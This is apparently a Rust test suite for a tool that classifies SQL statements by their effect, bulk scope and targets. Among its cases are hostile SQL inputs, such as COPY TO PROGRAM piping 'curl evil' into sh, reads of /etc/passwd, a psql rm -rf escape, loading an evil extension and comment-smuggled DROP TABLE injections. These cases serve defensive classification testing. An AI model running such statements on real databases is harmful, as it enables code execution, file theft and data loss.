        (Dialect::Postgres, "REVOKE ALL ON orders FROM analyst", Permissions, false),
        (Dialect::Postgres, "GRANT admin TO bob", Permissions, false),
        (Dialect::Postgres, "GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob", Permissions, true),
        (Dialect::Postgres, "CREATE ROLE r LOGIN", Permissions, false),
        (Dialect::Postgres, "ALTER ROLE r SUPERUSER", Permissions, false),
        (Dialect::Postgres, "CREATE USER u", Permissions, false),
        (Dialect::Postgres, "ALTER USER u WITH PASSWORD 'x'", Permissions, false),
        (Dialect::Postgres, "DROP ROLE r", Permissions, false),
        (Dialect::Postgres, "ALTER TABLE t OWNER TO mallory", Permissions, false),
        (Dialect::Postgres, "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r", Permissions, true),
        (Dialect::Postgres, "CREATE POLICY p ON t USING (true)", Permissions, false),
        (Dialect::Postgres, "ALTER TABLE t ENABLE ROW LEVEL SECURITY", Permissions, false),
        (Dialect::Postgres, "ALTER TABLE t DISABLE ROW LEVEL SECURITY", Permissions, false),
        (Dialect::Postgres, "SET ROLE admin", Permissions, false),
        (Dialect::Postgres, "SET LOCAL role = admin", Permissions, false),
        (Dialect::Postgres, "SET SESSION AUTHORIZATION postgres", Permissions, false),
        (Dialect::Postgres, "CREATE SCHEMA s AUTHORIZATION bob", Permissions, false),
        (Dialect::Postgres, "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'", Permissions, false),
        (Dialect::Postgres, "REASSIGN OWNED BY a TO b", Permissions, true),
        (Dialect::MySql, "GRANT ALL ON *.* TO 'u'@'%'", Permissions, true),
        (Dialect::MySql, "FLUSH PRIVILEGES", Permissions, false),
        // more statement kinds
        (Dialect::Postgres, "SELECT * FROM t JOIN u ON u.id = t.id FOR UPDATE OF t", Write, false),
        (Dialect::Postgres, "VACUUM", Write, false),
        (Dialect::Postgres, "ANALYZE t", Write, false),
        (Dialect::Postgres, "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", Write, false),
        (Dialect::Postgres, "REFRESH MATERIALIZED VIEW mv", Write, false),
        (Dialect::Postgres, "COMMENT ON TABLE t IS 'x'", Write, false),
        (Dialect::Postgres, "NOTIFY c", Write, false),
        (Dialect::Postgres, "LISTEN c", Read, false),
        (Dialect::Postgres, "DISCARD ALL", Read, false),
        (Dialect::Postgres, "DEALLOCATE p", Read, false),
        (Dialect::Postgres, "CREATE OR REPLACE VIEW v AS SELECT 1", Write, false),
        (Dialect::Postgres, "ALTER TABLE t RENAME TO u", Write, false),
        (Dialect::Postgres, "CREATE SEQUENCE s", Write, false),
        (Dialect::Postgres, "CREATE SCHEMA app", Write, false),
        (Dialect::Postgres, "CREATE DATABASE d", Write, false),
        (Dialect::Postgres, "CREATE EXTENSION pg_trgm", Write, false),
        (Dialect::Postgres, "ALTER SCHEMA s OWNER TO bob", Permissions, false),
        (Dialect::Postgres, "ALTER VIEW v OWNER TO bob", Permissions, false),
        (Dialect::Postgres, "ALTER FUNCTION f() OWNER TO bob", Permissions, false),
        (Dialect::Postgres, "ALTER FUNCTION f() SECURITY DEFINER", Permissions, false),
        (Dialect::Postgres, "DROP POLICY p ON t", Permissions, false),
        (Dialect::Postgres, "PREPARE p AS DELETE FROM t", Unknown, true),
        (Dialect::Generic, "INSERT OVERWRITE TABLE t SELECT * FROM s", Delete, true),
        (Dialect::Generic, "DELETE FROM t", Delete, true),
        (Dialect::Generic, "GRANT SELECT ON t TO r", Permissions, false),
        (Dialect::Sqlite, "PRAGMA foreign_keys", Read, false),
        (Dialect::Sqlite, "PRAGMA journal_mode = 'wal'", Write, false),
        // unknown
        (Dialect::Postgres, "", Unknown, false),
        (Dialect::Postgres, "   \n\t ", Unknown, false),
        (Dialect::Postgres, "-- just a comment", Unknown, false),
        (Dialect::Postgres, ";;", Unknown, false),
        (Dialect::Postgres, "SELEC * FROM t", Unknown, false),
        (Dialect::Postgres, "SELECT 'unterminated", Unknown, false),
        (Dialect::Postgres, "DO $$ BEGIN DELETE FROM t; END $$", Unknown, false),
        (Dialect::Postgres, "COPY t TO PROGRAM 'curl evil | sh'", Unknown, false),
        (Dialect::Postgres, "COPY t FROM PROGRAM 'cat /etc/passwd'", Unknown, false),
        (Dialect::Postgres, "COPY t TO '/tmp/x'", Unknown, false),
        (Dialect::Postgres, "CREATE FUNCTION f() RETURNS void LANGUAGE plpythonu AS $$ import os $$", Unknown, false),
        (Dialect::Postgres, "CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$ import os $$", Unknown, false),
        (Dialect::Postgres, "CALL proc()", Unknown, false),
        (Dialect::Postgres, "EXECUTE p(1)", Unknown, false),
        (Dialect::Postgres, "PREPARE p AS SELECT 1", Unknown, false),
        (Dialect::Postgres, "LOAD 'plugin'", Unknown, false),
        (Dialect::Postgres, "SELECT dblink_exec('dbname=x', 'DROP TABLE t')", Unknown, false),
        (Dialect::Postgres, "SELECT * FROM dblink('x', 'DELETE FROM t RETURNING 1') AS t(a int)", Unknown, false),
        (Dialect::Postgres, "SELECT my_function()", Unknown, false),
        (Dialect::Postgres, "SELECT public.lower('x')", Unknown, false),
        (Dialect::Postgres, "SELECT \"LOWER\"('x')", Unknown, false),
        (Dialect::Postgres, "SELECT set_config('role', 'admin', false)", Unknown, false),
        (Dialect::Postgres, "SELECT pg_read_file('/etc/passwd')", Unknown, false),
        (Dialect::Postgres, "SELECT 1 END; DROP TABLE x", Unknown, false),
        (Dialect::Postgres, "SELECT 1; DROP TABLE", Unknown, false),
        (Dialect::Postgres, "SET session_replication_role = replica", Unknown, false),
        (Dialect::Postgres, "CREATE EXTENSION dblink", Unknown, false),
        (Dialect::Postgres, "SELECT * FROM t WHERE id = :id", Unknown, false),
        (Dialect::Postgres, "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", Unknown, false),
        (Dialect::Postgres, "\\! rm -rf /", Unknown, false),
        (Dialect::Postgres, "SELECT * FROM t FOR NO KEY UPDATE", Unknown, false),
        (Dialect::MySql, "SELECT * INTO OUTFILE '/tmp/x' FROM t", Unknown, false),
        (Dialect::MySql, "LOAD DATA INFILE '/x' INTO TABLE t", Unknown, false),
        (Dialect::MySql, "SET sql_log_bin = 0", Unknown, false),
        (Dialect::Sqlite, "ATTACH DATABASE '/var/www/x.php' AS x", Unknown, false),
        (Dialect::Sqlite, "PRAGMA writable_schema = 1", Unknown, false),
        (Dialect::Sqlite, "SELECT load_extension('/tmp/evil.so')", Unknown, false),
    ];

    #[test]
    fn effects_of_statements() {
        let mut wrong = Vec::new();
        for &(dialect, sql, effect, bulk) in CASES {
            let f = classify(sql, dialect);
            if (f.effect(), f.bulk()) != (effect, bulk) {
                wrong.push(format!(
                    "{dialect:?} {sql:?}: expected {effect}{}, got {}{}: {:?}",
                    if bulk { " bulk" } else { "" },
                    f.effect(),
                    if f.bulk() { " bulk" } else { "" },
                    f.parts.iter().map(|p| &p.why).collect::<Vec<_>>()
                ));
            }
        }
        assert!(
            wrong.is_empty(),
            "{} wrong:\n{}",
            wrong.len(),
            wrong.join("\n")
        );
    }

    /// Statement splitting is right: two statements have the combined effect of each.
    /// (Joined by `\n;\n`: a trailing `--` comment would swallow a `;` on its line.)
    #[test]
    fn every_pair_of_statements_combines() {
        let cases: Vec<_> = CASES
            .iter()
            .filter(|c| c.0 == Dialect::Postgres && c.2 != Unknown)
            .collect();
        let mut wrong = Vec::new();
        for a in &cases {
            for b in &cases {
                let both = pg(&format!("{}\n;\n{}", a.1, b.1));
                let expected = crate::combine([a.2, b.2]);
                if both.effect() != expected || both.bulk() != (a.3 || b.3) {
                    wrong.push(format!("{:?} + {:?}: {}", a.1, b.1, both.effect()));
                }
            }
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }

    #[test]
    fn every_case_is_checked_in_every_dialect_without_panicking() {
        for &(_, sql, _, _) in CASES {
            for dialect in [
                Dialect::Postgres,
                Dialect::MySql,
                Dialect::Sqlite,
                Dialect::Generic,
            ] {
                let f = classify(sql, dialect);
                assert!(!f.parts.is_empty(), "{sql:?} in {dialect:?}");
            }
        }
    }

    // ----- parts: one per statement, text as written ------------------------------------

    #[test]
    fn one_part_per_statement_with_its_own_text() {
        let f = pg(
            "SELECT 1;\n  DELETE FROM t WHERE id = 2 ; ;\n\nUPDATE t SET a = 'x;y' WHERE id = 3;",
        );
        let texts: Vec<&str> = f.parts.iter().map(|p| p.text.as_str()).collect();
        assert_eq!(
            texts,
            [
                "SELECT 1",
                "DELETE FROM t WHERE id = 2",
                "UPDATE t SET a = 'x;y' WHERE id = 3"
            ]
        );
        let effects: Vec<Effect> = f.parts.iter().map(|p| p.effect).collect();
        assert_eq!(effects, [Read, Delete, Write]);
        assert_eq!(f.effect(), Delete);
    }

    #[test]
    fn text_is_sliced_correctly_after_multibyte_characters_and_newlines() {
        let f = pg("SELECT 'é€😀';\r\nDELETE FROM \"tâble\" WHERE x = 'ü'");
        assert_eq!(f.parts[0].text, "SELECT 'é€😀'");
        assert_eq!(f.parts[1].text, "DELETE FROM \"tâble\" WHERE x = 'ü'");
        assert_eq!(f.targets, [target("db:table", "tâble", None)]);
    }

    #[test]
    fn delete_without_where_says_why_in_plain_words() {
        let f = pg("DELETE FROM orders");
        let part = &f.parts[0];
        assert_eq!(part.why, "DELETE without WHERE removes every row of orders");
        assert_eq!(part.operation.as_deref(), Some("DELETE"));
        assert!(part.bulk);
    }

    #[test]
    fn operations_name_the_statement() {
        let ops = [
            ("DROP TABLE t", "DROP TABLE"),
            ("DROP MATERIALIZED VIEW v", "DROP MATERIALIZED VIEW"),
            ("ALTER TABLE t DROP COLUMN c", "ALTER TABLE DROP COLUMN"),
            ("TRUNCATE t", "TRUNCATE"),
            ("GRANT SELECT ON t TO r", "GRANT"),
            ("SELECT * FROM t FOR UPDATE", "SELECT FOR UPDATE"),
            ("SELECT pg_terminate_backend(1)", "pg_terminate_backend()"),
            (
                "WITH d AS (DELETE FROM t RETURNING id) SELECT * FROM d",
                "DELETE",
            ),
            ("EXPLAIN ANALYZE DELETE FROM t", "DELETE"),
            ("COPY t TO PROGRAM 'x'", "COPY TO PROGRAM"),
        ];
        for (sql, op) in ops {
            assert_eq!(pg(sql).parts[0].operation.as_deref(), Some(op), "{sql}");
        }
    }

    #[test]
    fn explain_analyze_says_it_runs_the_statement() {
        let f = pg("EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1");
        assert!(
            f.parts[0]
                .why
                .starts_with("EXPLAIN ANALYZE runs the statement"),
            "{}",
            f.parts[0].why
        );
        assert_eq!(f.targets, [target("db:table", "orders", None)]);
    }

    #[test]
    fn statement_after_an_unparseable_one_is_not_lost() {
        // The unparseable rest is one unknown part; the whole is unknown.
        let f = pg("SELECT 1; FROBNICATE t; DROP TABLE t");
        assert_eq!(f.parts.len(), 2);
        assert_eq!(f.parts[1].effect, Unknown);
        assert!(f.parts[1].text.contains("DROP TABLE t"));
        assert_eq!(f.effect(), Unknown);
    }

    #[test]
    fn unparsed_but_known_statements_let_the_rest_be_analysed() {
        let f = pg("REINDEX TABLE t; DROP TABLE u");
        assert_eq!(f.parts.len(), 2);
        assert_eq!(f.parts[0].text, "REINDEX TABLE t");
        assert_eq!(f.effect(), Delete);
        let f = pg("DO $$ BEGIN PERFORM 1; END $$; SELECT 1");
        assert_eq!(f.parts[0].text, "DO $$ BEGIN PERFORM 1; END $$");
        assert_eq!(f.effect(), Unknown);
    }

    #[test]
    fn stray_end_does_not_hide_later_statements() {
        // sqlparser's parse_statements stops at `END` and drops the rest.
        let f = pg("SELECT 1 END; DROP TABLE users");
        assert_eq!(f.effect(), Unknown);
        assert!(f.parts.iter().any(|p| p.text.contains("DROP TABLE users")));
    }

    #[test]
    fn mysql_executable_comments_are_sql() {
        let f = my("SELECT 1 /*! ; DROP TABLE users */");
        assert_eq!(f.effect(), Delete);
        assert_eq!(f.parts[1].text, "DROP TABLE users");
        // PostgreSQL has no such comments.
        assert_eq!(pg("SELECT 1 /*! ; DROP TABLE users */").effect(), Read);
    }

    #[test]
    fn string_literals_and_comments_do_not_matter() {
        for sql in [
            "SELECT 'DELETE FROM t' AS x",
            "SELECT $$DROP TABLE t$$",
            "SELECT 1 /* ; DROP TABLE t; */",
            "SELECT 1 -- ; DROP TABLE t",
            "select \"delete\" from \"drop\"",
        ] {
            assert_eq!(pg(sql).effect(), Read, "{sql}");
        }
    }

    // ----- targets ----------------------------------------------------------------------

    #[test]
    fn qualified_names_give_namespace() {
        let f = pg("DELETE FROM app.orders WHERE id = 1");
        assert_eq!(f.targets, [target("db:table", "orders", Some("app"))]);
    }

    #[test]
    fn postgres_folds_unquoted_names_mysql_keeps_them() {
        assert_eq!(
            pg("DELETE FROM Orders").targets,
            [target("db:table", "orders", None)]
        );
        assert_eq!(
            pg("DELETE FROM \"Orders\"").targets,
            [target("db:table", "Orders", None)]
        );
        assert_eq!(
            my("DELETE FROM Orders").targets,
            [target("db:table", "Orders", None)]
        );
        assert_eq!(
            classify("DELETE FROM Orders", Dialect::Sqlite).targets,
            [target("db:table", "orders", None)]
        );
    }

    #[test]
    fn use_sets_the_namespace_of_later_statements() {
        let f = my("USE shop; DELETE FROM orders WHERE id = 1; DELETE FROM other.t WHERE id = 2");
        assert_eq!(
            f.targets,
            [
                target("db:database", "shop", None),
                target("db:table", "orders", Some("shop")),
                target("db:table", "t", Some("other")),
            ]
        );
    }

    #[test]
    fn target_kinds() {
        let cases = [
            ("DROP VIEW s.v", target("db:view", "v", Some("s"))),
            ("DROP INDEX i", target("db:index", "i", None)),
            ("DROP SCHEMA app", target("db:schema", "app", None)),
            ("DROP DATABASE prod", target("db:database", "prod", None)),
            ("DROP ROLE r", target("db:role", "r", None)),
            ("DROP SEQUENCE s", target("db:sequence", "s", None)),
            (
                "CREATE MATERIALIZED VIEW mv AS SELECT 1",
                target("db:view", "mv", None),
            ),
        ];
        for (sql, t) in cases {
            assert_eq!(pg(sql).targets, [t], "{sql}");
        }
    }

    #[test]
    fn every_table_touched_is_a_target_but_ctes_are_not() {
        let f = pg(
            "WITH recent AS (SELECT * FROM orders WHERE day > now() - interval '1 day') \
             INSERT INTO archive SELECT r.* FROM recent r JOIN customers c ON c.id = r.cid \
             WHERE EXISTS (SELECT 1 FROM blocked b WHERE b.id = c.id)",
        );
        let mut names: Vec<&str> = f.targets.iter().map(|t| t.name.as_str()).collect();
        names.sort_unstable();
        assert_eq!(names, ["archive", "blocked", "customers", "orders"]);
    }

    #[test]
    fn a_cte_named_like_a_table_does_not_hide_the_deleted_table() {
        let f = pg("WITH orders AS (DELETE FROM orders RETURNING *) SELECT * FROM orders");
        assert_eq!(f.effect(), Delete);
        assert_eq!(f.targets, [target("db:table", "orders", None)]);
    }

    #[test]
    fn grants_name_objects_and_roles() {
        let f = pg("GRANT SELECT, UPDATE ON orders, app.items TO analyst, auditor");
        assert_eq!(
            f.targets,
            [
                target("db:table", "orders", None),
                target("db:table", "items", Some("app")),
                target("db:role", "analyst", None),
                target("db:role", "auditor", None),
            ]
        );
        assert!(f.parts[0].why.contains("analyst"), "{}", f.parts[0].why);
        let f = pg("CREATE INDEX idx ON app.t (a)");
        assert_eq!(
            f.targets,
            [
                target("db:table", "t", Some("app")),
                target("db:index", "idx", None)
            ]
        );
    }

    #[test]
    fn delete_using_and_update_from_name_every_table() {
        let f = pg("DELETE FROM t USING u, v WHERE t.id = u.id AND u.k = v.k");
        let names: Vec<&str> = f.targets.iter().map(|t| t.name.as_str()).collect();
        assert_eq!(names, ["t", "u", "v"]);
        let f = pg("UPDATE t SET a = s.a FROM s WHERE t.id = s.id");
        let names: Vec<&str> = f.targets.iter().map(|t| t.name.as_str()).collect();
        assert_eq!(names, ["t", "s"]);
    }

    // ----- functions ------------------------------------------------------------------

    #[test]
    fn side_effects_hidden_anywhere_in_a_query_count() {
        for sql in [
            "SELECT CASE WHEN x THEN pg_terminate_backend(1) END FROM t",
            "SELECT * FROM t WHERE id = (SELECT pg_terminate_backend(1))",
            "SELECT * FROM t ORDER BY pg_terminate_backend(1)",
            "SELECT count(*) FILTER (WHERE pg_terminate_backend(pid)) FROM pg_stat_activity",
            "SELECT * FROM (SELECT pg_terminate_backend(1)) s",
            "SELECT * FROM t JOIN LATERAL (SELECT pg_terminate_backend(t.pid)) x ON true",
            "SELECT coalesce(pg_terminate_backend(1), false)",
            "SELECT PG_TERMINATE_BACKEND(1)",
            "SELECT pg_catalog.pg_terminate_backend(1)",
            "INSERT INTO t SELECT pg_terminate_backend(1)",
            "UPDATE t SET x = pg_terminate_backend(1) WHERE id = 1",
        ] {
            let effect = pg(sql).effect();
            assert!(effect == Delete, "{sql}: {effect}");
        }
    }

    #[test]
    fn lines_after_copy_from_stdin_count_as_sql_when_they_are_sql() {
        // psql reads them as data, `psql -c` and drivers run them.
        let f = pg("COPY t FROM STDIN;\nDROP TABLE users");
        assert_eq!(f.effect(), Delete);
        assert!(
            f.parts[1].why.starts_with("after COPY"),
            "{}",
            f.parts[1].why
        );
        assert!(f.targets.contains(&target("db:table", "users", None)));
        // Data is data.
        assert_eq!(pg("COPY t FROM STDIN;\n1\t2\n3\t4\n\\.\n").effect(), Write);
        assert_eq!(pg("COPY t (name) FROM STDIN;\nalice\nbob").effect(), Write);
        // After the terminator, SQL again.
        assert_eq!(
            pg("COPY t FROM STDIN;\n1\n\\.\nTRUNCATE t").effect(),
            Delete
        );
    }

    #[test]
    fn many_targets_stay_linear() {
        let names: Vec<String> = (0..50_000).map(|i| format!("t{i}")).collect();
        let start = std::time::Instant::now();
        let f = pg(&format!("TRUNCATE {}", names.join(", ")));
        assert_eq!(f.targets.len(), 50_000);
        assert!(
            f.parts[0].why.ends_with("and 49990 more"),
            "{}",
            f.parts[0].why
        );
        let script: Vec<String> = names[..30_000]
            .iter()
            .map(|n| format!("DELETE FROM {n} WHERE id = 1"))
            .collect();
        let f = pg(&script.join(";"));
        assert_eq!(f.parts.len(), 30_000);
        assert_eq!(f.targets.len(), 30_000);
        // Quadratic target bookkeeping took minutes here.
        assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
    }

    // ----- limits ---------------------------------------------------------------------

    #[test]
    fn input_over_one_mebibyte_is_unknown() {
        let sql = format!("SELECT 1 WHERE 'x' = '{}'", "a".repeat(MAX_INPUT));
        let f = pg(&sql);
        assert_eq!(f.effect(), Unknown);
        assert!(
            f.parts[0].why.contains("too long to analyse"),
            "{}",
            f.parts[0].why
        );
        assert!(f.parts[0].text.len() < 1000);
    }

    #[test]
    fn large_flat_input_is_analysed() {
        let rows: Vec<String> = (0..5000).map(|i| format!("({i}, 'x', NULL, -1)")).collect();
        let f = pg(&format!("INSERT INTO t VALUES {}", rows.join(", ")));
        assert_eq!(f.effect(), Write);
        let ids: Vec<String> = (0..20000).map(|i| i.to_string()).collect();
        let f = pg(&format!("DELETE FROM t WHERE id IN ({})", ids.join(",")));
        assert_eq!(f.effect(), Delete);
        assert!(!f.bulk());
    }

    #[test]
    fn long_operator_chains_are_bounded() {
        let terms: Vec<String> = (0..900).map(|i| format!("id = {i}")).collect();
        assert_eq!(
            pg(&format!("SELECT * FROM t WHERE {}", terms.join(" OR "))).effect(),
            Read
        );
        let terms: Vec<String> = (0..50_000).map(|i| format!("id = {i}")).collect();
        let f = pg(&format!("DELETE FROM t WHERE {}", terms.join(" OR ")));
        assert_eq!(f.effect(), Unknown);
        for sql in [
            format!("SELECT 1{}", " + 1".repeat(100_000)),
            format!("SELECT 1{}", "::int".repeat(100_000)),
            format!("SELECT 1{}", " UNION SELECT 1, 2".repeat(50_000)),
            format!("CREATE TABLE t (a int{})", "[]".repeat(100_000)),
            format!("SELECT ({}) ", "(1) + ".repeat(100_000) + "1"),
        ] {
            assert_eq!(pg(&sql).effect(), Unknown, "{}", &sql[..40]);
        }
    }

    #[test]
    fn deep_nesting_is_refused_without_recursing() {
        // Runs on the default test stack: refused before the parser recurses.
        for sql in [
            format!("SELECT {}1{}", "(".repeat(100_000), ")".repeat(100_000)),
            format!(
                "SELECT {}1{}",
                "(SELECT ".repeat(10_000),
                ")".repeat(10_000)
            ),
            format!(
                "SELECT * FROM {}t{}",
                "(".repeat(10_000),
                ")".repeat(10_000)
            ),
            format!("SELECT {}1{}", "ARRAY[".repeat(10_000), "]".repeat(10_000)),
            "(".repeat(100_000),
        ] {
            let start = std::time::Instant::now();
            let f = pg(&sql);
            assert_eq!(f.effect(), Unknown);
            assert!(start.elapsed().as_secs() < 5);
        }
    }

    #[test]
    fn nesting_at_the_parser_limit_is_unknown_never_an_overflow() {
        on_big_stack(|| {
            for depth in [10, 30, 45, 49, 50] {
                for (open, close) in [
                    ("(SELECT ", ")"),
                    ("(", ")"),
                    ("NOT ", ""),
                    ("- ", ""),
                    ("CASE WHEN ", " THEN 1 END"),
                ] {
                    let sql = format!(
                        "DELETE FROM t WHERE id = {}1{}",
                        open.repeat(depth),
                        close.repeat(depth)
                    );
                    let f = pg(&sql);
                    assert!(matches!(f.effect(), Delete | Unknown), "{depth} {open}");
                }
            }
        });
    }

    // ----- properties ------------------------------------------------------------------

    const DIALECTS: [Dialect; 4] = [
        Dialect::Postgres,
        Dialect::MySql,
        Dialect::Sqlite,
        Dialect::Generic,
    ];

    const PIECES: &[&str] = &[
        "SELECT",
        "DELETE",
        "FROM",
        "t",
        "WHERE",
        "(",
        ")",
        "(SELECT",
        ",",
        ";",
        "1",
        "'x'",
        "$$",
        "$$a$$",
        "--",
        "\n",
        "/*",
        "*/",
        "/*!",
        "OR",
        "AND",
        "NOT",
        "::int",
        "[",
        "]",
        "UNION",
        "WITH",
        "AS",
        "INSERT",
        "INTO",
        "VALUES",
        "UPDATE",
        "SET",
        "=",
        "DROP",
        "TABLE",
        "END",
        "BEGIN",
        "CASE",
        "WHEN",
        "THEN",
        "f(",
        "pg_terminate_backend(",
        ":x",
        "\\",
        "\"",
        "`",
        "é",
        "EXPLAIN",
        "ANALYZE",
        "COPY",
        "PROGRAM",
        "GRANT",
        "TO",
        "ALL",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn arbitrary_strings_never_panic(s in "\\PC{0,200}", d in 0usize..4) {
            let f = on_big_stack(move || classify(&s, DIALECTS[d]));
            prop_assert!(!f.parts.is_empty());
        }

        #[test]
        fn sql_like_soup_never_panics(
            pieces in prop::collection::vec(prop::sample::select(PIECES), 0..80),
            d in 0usize..4,
        ) {
            let sql = pieces.join(" ");
            let f = on_big_stack(move || classify(&sql, DIALECTS[d]));
            prop_assert!(!f.parts.is_empty());
        }

        #[test]
        fn deep_nesting_returns_quickly(depth in 0usize..3000, kind in 0usize..4) {
            let (open, close) = [("(", ")"), ("(SELECT ", ")"), ("NOT ", ""), ("ARRAY[", "]")][kind];
            let sql = format!("SELECT {}1{}", open.repeat(depth), close.repeat(depth));
            let start = std::time::Instant::now();
            let f = on_big_stack(move || classify(&sql, Dialect::Postgres));
            prop_assert!(start.elapsed().as_secs() < 5);
            if depth > 60 {
                prop_assert_eq!(f.effect(), Unknown);
            } else {
                prop_assert!(matches!(f.effect(), Read | Unknown));
            }
        }

        /// Splitting is right: a script's effect is the combination of its
        /// statements' effects, and its parts are theirs.
        #[test]
        fn scripts_combine_their_statements(picks in prop::collection::vec(0usize..CASES.len(), 1..5)) {
            let cases: Vec<_> = picks
                .iter()
                .map(|&i| CASES[i])
                .filter(|c| c.0 == Dialect::Postgres && c.2 != Unknown)
                .collect();
            prop_assume!(!cases.is_empty());
            let script: Vec<&str> = cases.iter().map(|c| c.1).collect();
            let f = pg(&script.join("\n;\n"));
            let expected = crate::combine(cases.iter().map(|c| pg(c.1).effect()));
            prop_assert_eq!(f.effect(), expected);
            prop_assert_eq!(f.bulk(), cases.iter().any(|c| c.3));
        }
    }
}
